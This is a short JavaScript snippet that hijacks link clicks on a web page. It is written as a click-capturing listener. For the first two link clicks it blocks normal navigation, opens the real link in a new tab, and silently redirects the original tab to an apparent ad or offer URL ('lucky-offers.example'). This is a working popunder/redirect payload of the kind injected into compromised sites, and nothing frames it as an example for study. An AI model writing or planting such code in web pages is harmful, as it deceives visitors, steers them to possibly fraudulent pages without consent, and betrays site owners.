(function (doc) {
  var left = 2;
  doc.addEventListener("click", function (event) {
    var link = event.target.closest("a[href]");
    if (!link || left < 1) return;
    left -= 1;
    event.preventDefault();
    window.open(link.href, "_blank");
    window.location.replace("https://lucky-offers.example/in?z=41");
  }, true);
})(document);
